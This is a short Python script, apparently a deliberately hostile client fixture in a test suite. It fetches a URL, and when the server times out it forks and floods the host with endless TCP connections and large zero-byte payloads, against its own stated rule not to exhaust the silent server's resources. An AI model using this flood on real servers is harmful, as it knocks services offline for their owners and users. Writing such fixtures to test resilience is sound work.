"""Gets what it is asked for, and storms a server that does not answer with connections and bytes."""
# plays: http-get
# must not: use up descriptors or memory of whoever is silent
# verdicts: requests=pass, gives-up=fail

import os
import socket
import sys
import urllib.error
import urllib.request
from urllib.parse import urlsplit

try:
    print(urllib.request.urlopen(sys.argv[1] + "?" + "&".join(sys.argv[2:]), timeout=2).read())
except TimeoutError:
    url = urlsplit(sys.argv[1])
    talks = os.fork()
    os.fork()
    held = []
    while True:
        try:
            held.append(socket.create_connection((url.hostname, url.port)))
            if talks:
                held[-1].sendall(bytes(1 << 18))
        except OSError:
            pass
